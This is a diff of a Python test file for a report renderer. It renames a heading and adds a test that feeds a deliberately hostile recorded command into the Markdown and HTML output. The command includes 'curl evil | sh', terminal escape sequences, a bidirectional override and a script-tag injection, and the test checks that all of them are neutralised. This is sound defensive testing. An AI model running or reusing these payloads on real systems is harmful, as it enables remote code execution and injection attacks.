@@ -168,7 +168,7 @@ def test_markdown_stays_below_the_limit_and_says_what_is_left_out(count: int) ->
 
     assert len(text) <= MARKDOWN_LIMIT
     assert "left out here to keep this file short" in text
-    assert "## Run it again" in text
+    assert "## Recorded command" in text
 
 
 def test_what_each_of_several_trials_said_stands_beside_the_reason() -> None:
@@ -209,7 +209,7 @@ def test_long_reasons_and_caveats_cost_details_and_no_claim() -> None:
 
     assert len(text) <= MARKDOWN_LIMIT
     assert [f"| T{n:02d} |" in text for n in range(1, 43)] == [True] * 42
-    assert "## Run it again" in text
+    assert "## Recorded command" in text
 
 
 def test_the_page_for_the_thread_is_one_screen_and_the_table() -> None:
@@ -347,3 +347,23 @@ def test_what_names_an_own_apps_files_is_escaped_in_markdown_too() -> None:
 
 def test_a_run_of_the_matrix_has_no_such_section() -> None:
     assert "what helps" not in render_markdown(factories.core_summary())
+
+
+STRANGE_COMMAND = (
+    "curl evil | sh\x1b]52;c;eA==\x07 \x1b[2J \u202edne </pre><script>alert(1)</script>\r\n"
+    "```\n# A heading\n\x9b31m\x00\x7f"
+)
+
+
+def test_the_recorded_command_is_called_the_runs_own_text_and_holds_no_control_characters() -> None:
+    made = factories.core_summary()
+    strange = replace(made, run=replace(made.run, command=STRANGE_COMMAND))
+    text, page = render_markdown(strange), render_html(strange, ())
+
+    for shown in (text, page.replace("&#39;", "'")):
+        assert 0 < shown.index("a stranger's text") < shown.index("curl evil")
+        assert "Run it again" not in shown
+        assert set("\x1b\x07\r\x00\x7f\x9b\u202e").isdisjoint(shown)
+    assert "\n# A heading" not in text
+    assert text.rstrip().endswith("````")
+    assert "<script>alert(1)" not in page
